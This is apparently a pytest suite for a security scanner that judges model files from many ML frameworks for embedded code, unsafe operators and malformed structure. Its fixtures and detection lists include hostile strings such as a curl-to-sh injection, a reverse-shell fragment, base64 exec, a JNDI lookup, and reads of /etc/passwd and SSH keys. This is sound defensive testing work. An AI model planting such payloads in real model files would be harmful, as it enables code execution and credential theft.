"""What the scanner decides about models of other frameworks, through the whole engine."""

import gzip
import json
import struct
import zlib
from typing import Any

import pytest

from tests.frameworkfiles import (
    COMMAND,
    R_GLOBAL,
    R_NIL,
    booster,
    caffe_blob,
    caffe_layer,
    caffe_net,
    cntk_model,
    fasttext,
    ggjt,
    paddle_op,
    paddle_program,
    r_call,
    r_chars,
    r_list,
    r_promise,
    r_stream,
    r_strings,
    r_symbol,
    real,
    t7,
    ubj,
    whisper,
)
from tests.scan.samples import scan
from tests.tensorfiles import Gguf, message
from weighbridge.core.artifact import Member
from weighbridge.core.evidence import Outcome
from weighbridge.core.source import MemorySource
from weighbridge.formats import framework
from weighbridge.scan.engine import Scanner
from weighbridge.scan.operators.framework import Effect, effect
from weighbridge.scan.rules import framework_malformed
from weighbridge.scan.text_harm import harm

PASS, FAIL, UNKNOWN = Outcome.PASS, Outcome.FAIL, Outcome.UNKNOWN


def judged(path: str, data: bytes) -> tuple[Outcome, list[str]]:
    seen = Scanner().examine(Member(path, len(data)), MemorySource(data))
    assert not [item for item in seen.unread if item.code == "internal-error"], seen.unread
    return seen.result.outcome, sorted({finding.rule for finding in seen.findings})


# -- what must pass

GOOD: dict[str, bytes] = {
    "model.cntk": cntk_model(),
    "net.caffemodel": caffe_net(caffe_layer("ip", "InnerProduct", caffe_blob([1, 2], [1, 2]))),
    "net.prototxt": b'name: "net"\nlayer { name: "ip" type: "InnerProduct" inner_product_param { weight_filler { type: "xavier" } } }\n',
    "model.fasttext.bin": fasttext(),
    "llama.bin": ggjt(("w", [32], 2, bytes(18))),
    "whisper.bin": whisper(("w", [4], 0, bytes(16))),
    "weights.t7": t7([("class", "nn.Linear", ["weight", ("tensor", [2], ("storage", [1, 2]))]), 0.5]),
    "__model__": paddle_program(paddle_op("relu"), paddle_op("conv2d_grad"), paddle_op("batch_norm_")),
    "hand.ubj": ubj(booster()),
    "Modelfile": b"FROM ./model.gguf\n",
    "plain.rds": r_stream(r_list(r_strings("system(", "os.system('x')"), R_GLOBAL)),
}  # fmt: skip
REAL = (
    "tree.ubj", "linear.ubj", "dart.ubj", "categories.ubj", "tree.json", "lightgbm.txt", "linear-trees.txt", "symmetric.cbm",
    "lossguide.cbm", "statistics.cbm", "softmax.pdmodel", "softmax.pdiparams", "pir.json", "pir-cond.json", "pir.pdiparams",
    "mxnet.params", "mxnet-symbol.json", "v5.mat", "compressed.mat", "lm.rds", "lm.RData", "formula.rds", "df.rds", "ascii.rds",
    "s4.rds", "two.rda", "km.rds", "raw_le.rds", "raw_xdr.rds",
)  # fmt: skip


@pytest.mark.parametrize("name", REAL)
def test_files_that_the_frameworks_wrote_pass(name: str) -> None:
    assert judged(name, real(name)) == (PASS, [])


@pytest.mark.parametrize("name", sorted(GOOD))
def test_well_formed_files_pass(name: str) -> None:
    assert judged(name, GOOD[name]) == (PASS, [])


@pytest.mark.parametrize("name", ["clo.rds", "byte.rds", "ecdf.rds", "glm.rds"])
def test_functions_in_r_models_are_undecided_and_never_a_fail(name: str) -> None:
    assert judged(name, real(name)) == (UNKNOWN, ["r-carries-code"])


# -- what must fail

SYMBOL = json.loads(real("mxnet-symbol.json"))
PIR = json.loads(real("pir.json"))


def symbol(op: str, **attributes: str) -> bytes:
    nodes = [*SYMBOL["nodes"], {"op": op, "name": "x", "attrs": attributes, "inputs": [[4, 0, 0]]}]
    return json.dumps({**SYMBOL, "nodes": nodes}).encode()


def pir(op: str) -> bytes:
    changed = json.loads(json.dumps(PIR))
    changed["program"]["regions"][0]["blocks"][0]["ops"].append({"#": op, "A": [], "I": [], "O": []})
    return json.dumps(changed).encode()


def json_booster(**changes: Any) -> bytes:
    return json.dumps(booster(**changes)).encode()


UDF = {
    "type": "UserDefinedFunction",
    "native": True,
    "module": "sample",
    "deserialize_method": "Create",
    "op": "Sample",
}
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(100)
CUBIN = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\xbe\x00" + bytes(100)

BAD: dict[str, tuple[str, bytes, str]] = {
    "paddle py_func": ("model.pdmodel", real("py-func.pdmodel"), "framework-unsafe-operator"),
    "paddle load": ("__model__", paddle_program(paddle_op("load", file_path="weights")), "framework-unsafe-operator"),
    "paddle save_combine": ("m.pdmodel", paddle_program(paddle_op("save_combine", file_path="x")), "framework-unsafe-operator"),
    "paddle path": ("m.pdmodel", paddle_program(paddle_op("relu", path="../../etc/sample")), "framework-text-payload"),
    "paddle command": ("m.pdmodel", paddle_program(paddle_op("print", message=COMMAND)), "framework-text-payload"),
    "pir py_func": ("inference.json", pir("1.py_func"), "framework-unsafe-operator"),
    "pir read_file": ("inference.json", pir("1.read_file"), "framework-unsafe-operator"),
    "mxnet Custom": ("m-symbol.json", symbol("Custom", op_type="sample"), "framework-unsafe-operator"),
    "mxnet _Native": ("m-symbol.json", symbol("_Native", info="0x41414141"), "framework-unsafe-operator"),
    "mxnet library": ("m-symbol.json", symbol("Activation", path="./libsample.so"), "framework-text-payload"),
    "mxnet edges": ("m-symbol.json", json.dumps({**SYMBOL, "heads": [[99, 0, 0]]}).encode(), "framework-malformed"),
    "pir custom operator": ("inference.json", pir("3.sample_op"), "framework-unsafe-operator"),
    "mxnet operator": ("m-symbol.json", symbol("SampleOp"), "framework-unsafe-operator"),
    "caffe layer by its name": ("net.caffemodel", caffe_net(caffe_layer("x", "ShellCommand")), "framework-unsafe-operator"),
    "torch7 class by its name": ("m.t7", t7(("class", "SystemCall", ["x"])), "framework-unsafe-operator"),
    "cntk native": ("model.dnn", cntk_model(**UDF), "framework-unsafe-operator"),
    "cntk hidden": ("model.cntk", cntk_model(module="sample", deserialize_method="x"), "framework-unsafe-operator"),
    "caffe Python": (
        "net.caffemodel",
        caffe_net(caffe_layer("p", "Python", message(130, message(1, "sample"), message(2, "Layer")))),
        "framework-unsafe-operator",
    ),
    "caffe Python by its parameter": (
        "net.caffemodel",
        caffe_net(caffe_layer("p", "ReLU", message(130, message(1, "sample")))),
        "framework-unsafe-operator",
    ),
    "prototxt Python": (
        "net.prototxt",
        b'layer { name: "p" type: "Python" python_param { module: "sample" layer: "L" } }',
        "framework-unsafe-operator",
    ),
    "prototxt behind a comment": (
        "net.prototxt",
        b'layer { name: "#" type: \'Python\' # type: "ReLU"\n python_param { module: "sample" } }',
        "framework-unsafe-operator",
    ),
    "xgboost child": ("m.ubj", ubj(booster(right_children=[7, -1, -1])), "framework-malformed"),
    "xgboost json child": ("m.json", json_booster(right_children=[7, -1, -1]), "framework-malformed"),
    "xgboost command": ("m.ubj", ubj({**booster(), "note": COMMAND}), "framework-text-payload"),
    "lightgbm command": (
        "model.txt",
        real("lightgbm.txt").replace(b"[verbosity: -1]", b"[verbosity: $(curl http://example.com/x | sh)]"),
        "framework-text-payload",
    ),
    "lightgbm tail": ("model.txt", real("lightgbm.txt") + b"import os; " + COMMAND.encode(), "framework-text-payload"),
    "catboost note": ("m.cbm", real("symmetric.cbm").replace(b"catboost_info", b"/etc/passwd  "), "framework-text-payload"),
    "r promise": ("e.rds", real("env_promise.rds"), "r-carries-code"),
    "r promise as an item": ("e.rds", r_stream(r_list(r_promise(r_symbol("x")))), "r-carries-code"),
    "r call": ("e.rds", real("lang.rds"), "r-carries-code"),
    "r eval parse": ("e.rds", r_stream(r_call("eval", r_call("parse", r_strings("text")))), "r-carries-code"),
    "r do.call": ("e.rds", r_stream(r_call("do.call", r_strings("system"))), "r-carries-code"),
    "r loose byte code": ("e.rds", r_stream(struct.pack(">3ii", 21, 1, 13, 0) + struct.pack(">i", 0)), "r-carries-code"),
    "r vector": ("e.rds", r_stream(struct.pack(">ii", 14, 2**31 - 1)), "framework-malformed"),
    "r mmap": ("e.rds", r_stream(struct.pack(">i", 238) + struct.pack(">i", 2) + r_symbol("mmap_real") + R_NIL + R_NIL + R_NIL), "r-carries-code"),
    "torch7 function": ("model.t7", t7([("function", b"\x1bLJ\x02sample")]), "serialized-function"),
    "torch7 command": ("model.t7", t7(["os.execute('echo weighbridge-sample')"]), "framework-text-payload"),
    "torch7 text form": (
        "model.t7",
        b"4\n1\n3\nV 1\n9\nnn.Linear\n3\n2\n1\n2\n41\nos.execute('echo weighbridge-sample')\n",
        "framework-text-payload",
    ),
    "tensorrt with a library": ("model.engine", b"ftrt" + bytes(200) + ELF + bytes(100), "executable-file"),
    "tensorrt with a command": ("model.plan", b"ptrt" + bytes(64) + COMMAND.encode() + bytes(64), "framework-text-payload"),
    "ggml library in a tensor": ("llama.bin", ggjt(("w", [32], 0, (ELF + bytes(128))[:128])), "executable-file"),
    "ggml name": ("llama.bin", ggjt() + struct.pack("<3I", 1, 2**31, 0), "framework-malformed"),
    "GGML spelled": ("x.ggml", b"GGML" + struct.pack("<I", 0xFFFFFFFF) + bytes(60), "framework-malformed"),
    "fasttext": ("m.bin", fasttext(size=2**31 - 1), "framework-malformed"),
    "matlab": ("m.mat", real("v5.mat")[:128] + struct.pack("<II", 14, 2**31) + bytes(40), "framework-malformed"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(BAD))
def test_harm_is_named(name: str) -> None:
    path, data, rule = BAD[name]
    outcome, rules = judged(path, data)
    assert outcome is FAIL
    assert rule in rules


@pytest.mark.parametrize("name", ["r promise", "r call"])
def test_compressed_r_objects_are_the_same_as_plain_ones(name: str) -> None:
    path, data, rule = BAD[name]
    plain = gzip.decompress(data)
    for packed in (
        plain,
        gzip.compress(plain),
        __import__("bz2").compress(plain),
        __import__("lzma").compress(plain),
    ):
        assert judged(path, packed) == (FAIL, [rule])


def test_a_function_that_r_runs_at_its_start_is_harm() -> None:
    closure = struct.pack(">i", 3 | 1 << 10) + R_GLOBAL + R_NIL + r_call("print", r_strings("x"))
    for bound, wanted in ((".First", FAIL), ("model", UNKNOWN)):
        image = b"RDX2\n" + r_stream(struct.pack(">i", 2 | 1 << 10) + r_symbol(bound) + closure + R_NIL)
        assert judged(".RData", image) == (wanted, ["r-carries-code"])


# -- what nobody can judge

OPEN: dict[str, tuple[str, bytes, list[str]]] = {
    "tensorrt": ("model.engine", b"ftrt" + bytes(200) + CUBIN + bytes(100), ["opaque-format"]),
    "rknn": ("model.rknn", b"RKNN" + bytes(200), ["opaque-format"]),
    "darknet": ("yolo.weights", struct.pack("<5i", 0, 2, 5, 32, 0) + b"\x9b\x01\x7f" * 40, ["opaque-format"]),
    "mnn": ("model.mnn", b"\x20\x00\x00\x00\x1e\x9f\x80" * 30, ["opaque-format"]),
    "ncnn": ("model.param", b"7767517\n1 1\nInput data 0 1 data\n", ["opaque-format"]),
    "cntk before version 2": ("model.dnn", "BCNTK\0".encode("utf-16-le") + bytes(80), []),
    "xgboost before 1.0": ("model.model", b"binf" + b"\x00\x01\x90\xff" * 40, []),
    "paddle custom operator": ("m.pdmodel", paddle_program(paddle_op("sample_op")), ["framework-unknown-operator"]),
    "caffe layer": ("net.caffemodel", caffe_net(caffe_layer("x", "SampleLayer")), ["framework-unknown-operator"]),
    "torch7 class": ("m.t7", t7(("class", "sample.Model", ["x"])), ["framework-unknown-operator"]),
    "xgboost objective": (
        "m.ubj",
        ubj({"learner": {**booster()["learner"], "objective": {"name": "sample:own"}}}),
        ["framework-unknown-operator"],
    ),
    "ggml of another kind": ("bert.bin", b"lmgg" + struct.pack("<7i", 30, 5, 384, 1536, 12, 6, 1) + b"\x9b\x01\x02" * 40, ["framework-malformed"]),
    "r package": ("e.rds", r_stream(struct.pack(">3i", 249, 0, 1) + r_chars("samplepackage")), ["r-carries-code"]),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(OPEN))
def test_what_cannot_be_judged_is_unknown_with_a_reason(name: str) -> None:
    path, data, rules = OPEN[name]
    assert judged(path, data) == (UNKNOWN, rules)


# -- spaCy

CONFIG = """
[nlp]
lang = "fr"
pipeline = ["tok2vec","ner"]
before_creation = null
tokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}

[components.ner]
factory = "ner"

[components.ner.model]
@architectures = "spacy.TransitionBasedParser.v2"

[training.optimizer]
@optimizers = "Adam.v1"
"""


@pytest.mark.parametrize(
    ("before", "after", "wanted"),
    [
        ("", "", PASS),
        ("spacy.Tokenizer.v1", "sample.Tokenizer.v1", UNKNOWN),
        ('factory = "ner"', 'factory = "sample_component"', UNKNOWN),
        ("before_creation = null", 'before_creation = {"@callbacks": "sample.callback.v1"}', UNKNOWN),
        ("before_creation = null", f'before_creation = "{COMMAND}"', FAIL),
        ('lang = "fr"', 'lang = "../../../sample"', FAIL),
    ],
)
def test_spacy_configurations(before: str, after: str, wanted: Outcome) -> None:
    outcome, rules = judged("config.cfg", CONFIG.replace(before, after, 1).encode())
    assert (outcome, rules) == (wanted, [] if wanted is PASS else ["spacy-registry"])


def test_other_configurations_are_none_of_spacys() -> None:
    assert judged("setup.cfg", b'[metadata]\nname = "x"\n[options]\n@x = "sample.y"\n') == (PASS, [])


def test_a_folder_of_spacy_passes() -> None:
    files = {
        "config.cfg": CONFIG.encode(),
        "vocab/key2row": b"\xdf\x00\x00\x00\x01\xcf" + bytes(8) + b"\x00",
        "vocab/lookups.bin": b"\x80",
        "attribute_ruler/patterns": b"\xdc\x00\x01\x81\xa8patterns\x90",
        "ner/cfg": b"{}",
    }
    assert {file.path: file.outcome for file in scan(files).files} == dict.fromkeys(files, PASS)


# -- names and strings


@pytest.mark.parametrize(
    ("family", "name", "wanted"),
    [
        ("paddle", "elementwise_add_grad_grad", Effect.COMPUTES),
        ("paddle", "pd_op.batch_norm_", Effect.COMPUTES),
        ("paddle", "pd_op.py_func_", Effect.HARM),
        ("paddle", "_", Effect.UNKNOWN),
        ("paddle", "tensorrt_engine", Effect.UNKNOWN),
        ("mxnet", "_backward_FullyConnected", Effect.COMPUTES),
        ("mxnet", "_backward_Custom", Effect.HARM),
        ("mxnet", "null", Effect.COMPUTES),
        ("caffe", "V1:14", Effect.COMPUTES),
        ("caffe", "V1:99", Effect.UNKNOWN),
    ],
)
def test_effects_of_operators(family: str, name: str, wanted: Effect) -> None:
    assert effect(family, framework.Call(name))[0] is wanted


HARMLESS = (
    "feature (mm)", "age/income", "x.y.z", "../", "a..b", "import duties", "system", "exec time", "[-2.5:2.7]", "binary sigmoid:1",
    "eval_metric", "os.system", "n/a", "Gender=Fem|Number=Sing", "model.onnx", "https://example.com/paper.html", "U.S.", "load", "<unk>",
    "relu(x)", "sh", "corpus/labels/ner.json", "C:", "ls -la", "(?:a|b)", "evaluation (5 folds)", "soil", "a.so.b", "bash",
)  # fmt: skip
HARMFUL = (
    COMMAND, "__import__('os')", "eval(compile('x','y','exec'))", "exec(base64.b64decode('x'))", "subprocess.Popen", "import os",
    "x; import subprocess", "cos\nsystem\n", "io.popen('x')", "system(\"echo weighbridge-sample\")", "/bin/sh -c x", "curl http://example.com/x",
    "x | bash", "powershell -enc x", "cmd.exe /c x", "<script>", "${jndi:ldap://example.com}", "../../sample", "..\\..\\sample",
    "/etc/passwd", "~/.ssh/id", "file:///x", "libsample.so", "C:\\x\\sample.dll", "().__class__.__subclasses__()", "bash -i >& x",
)  # fmt: skip


def test_harm_in_strings() -> None:
    assert [text for text in HARMLESS if harm(text)] == []
    assert [text for text in HARMFUL if not harm(text)] == []


def test_every_fact_of_a_reader_is_judged() -> None:
    import re
    from pathlib import Path

    folder = Path(framework.__file__).parent.parent
    told: set[str] = set()
    names = (
        "framework/__init__",
        "protowalk",
        "paddle",
        "mxnet",
        "cntk",
        "caffe",
        "ubjson",
        "xgboost",
        "lightgbm",
        "catboost",
        "fasttext",
        "r/__init__",
        "ggml",
    )
    for name in (*names, "torch7", "matlab", "opaque"):
        text = (folder / f"{name}.py").read_text("utf-8")
        told.update(re.findall(r'(?:ContradictionError|_odd)\(\s*"([a-z-]+)"', text))
        told.update(re.findall(r'Anomaly\(\s*code="([a-z-]+)"', text))
    judged_elsewhere = {"function", "object"}
    assert told - framework_malformed.BROKEN - framework_malformed.DOUBTFUL == judged_elsewhere - {"object"}


# -- R packages, and what else came up


def lazy(*objects: bytes) -> bytes:
    """A lazy-load database."""
    return b"".join(struct.pack(">I", len(o)) + zlib.compress(o) for o in objects)


def test_r_lazy_load_databases_are_unpacked_and_judged() -> None:
    good, bad = r_stream(r_strings("a")), r_stream(r_promise(r_call("system", r_strings("x"))))
    assert judged("pkg.rdb", lazy(good, good)) == (PASS, [])
    assert judged("pkg.rdb", lazy(good, bad)) == (FAIL, ["r-carries-code"])
    assert judged("pkg.rdb", lazy(good) + struct.pack(">I", 7) + zlib.compress(good)) == (
        FAIL,
        ["framework-malformed"],
    )


def test_a_function_of_a_model_may_write_files_but_not_start_programs() -> None:
    def closure(call: bytes) -> bytes:
        return r_stream(struct.pack(">i", 3 | 1 << 10) + R_GLOBAL + R_NIL + call)

    assert judged("m.rds", closure(r_call("writeLines", r_strings("x")))) == (UNKNOWN, ["r-carries-code"])
    for call in (r_call("shell", r_strings("x")), r_call("match.fun", r_strings("system2"))):
        assert judged("m.rds", closure(call)) == (FAIL, ["r-carries-code"])
    text = r_call("eval", r_call("parse", r_strings("system('echo weighbridge-sample')")))
    assert judged("m.rds", closure(text)) == (FAIL, ["r-carries-code"])


LOOKALIKES: dict[str, bytes] = {
    "labels.txt": b"A\n1\n2\n3\n",
    "letters.txt": b"A\n2\n3\n4\n5\n",
    "words.txt": b"B\nbee\n",
    "tree.md": b"tree\n====\nversion=1 of a text about trees\n",
    "deploy.plan": b"First the tests, then the release.\n",
    "numbers.txt": b"3\n1\n4\n1\n5\n",
    "sizes.csv": b"10 20\n30 40\n",
    "model.weights": b"\x10\x00\x00\x00\x00\x00\x00\x00{}              ",
}


@pytest.mark.parametrize("name", sorted(LOOKALIKES))
def test_lookalikes_pass_as_what_they_are(name: str) -> None:
    assert judged(name, LOOKALIKES[name])[0] is PASS


@pytest.mark.parametrize(
    "numbers", [(0, 1, 0, 2, 5, 7), (3, 1, 9, 1, 4, 4), (0, 0, 0, 0, 20, 8), (3, 1, 100, 2, 900, 7)]
)
def test_raw_numbers_are_unknown_and_no_broken_model(numbers: tuple[int, ...]) -> None:
    data = struct.pack(f"<{len(numbers)}i", *numbers) * 40
    assert judged("data.raw", data)[0] is UNKNOWN


def test_a_command_in_gguf_metadata_is_harm() -> None:
    assert judged("m.gguf", Gguf().text("general.name", COMMAND).bytes()) == (
        FAIL,
        ["framework-text-payload"],
    )
    kept = Gguf().text("quantize.imatrix.file", "../imatrix.dat").text("general.name", "Sample 7B (chat)")
    assert judged("m.gguf", kept.bytes()) == (PASS, [])


def test_training_data_of_a_caffe_net_is_a_doubt() -> None:
    net = b'layer { name: "d" type: "Data" data_param { source: "../data/train" } }\nlayer { type: "ReLU" }'
    assert judged("net.prototxt", net) == (UNKNOWN, ["framework-text-payload"])
